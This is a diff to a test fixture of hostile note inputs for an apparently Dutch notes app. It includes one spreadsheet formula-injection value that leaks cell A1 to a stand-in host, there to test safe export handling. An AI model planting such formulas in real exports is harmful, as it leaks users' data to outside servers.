@@ -22,7 +22,7 @@ HOSTILE_NOTES = (
     '=HYPERLINK("http://example.invalid/?"&A1,"klik")',
     "+31 6 12345678 belt de familie",
     "@team: -2 graden buiten",
-    "Lang " + "verhaal over de douche, " * 80,
+    "Lang " + "verhaal over de douche, " * 80 + "einde.",
     "Annie 😀👍🏽 was blij ❤️",
     "שלום, مرحبا: de familie spreekt Hebreeuws en Arabisch",
 )
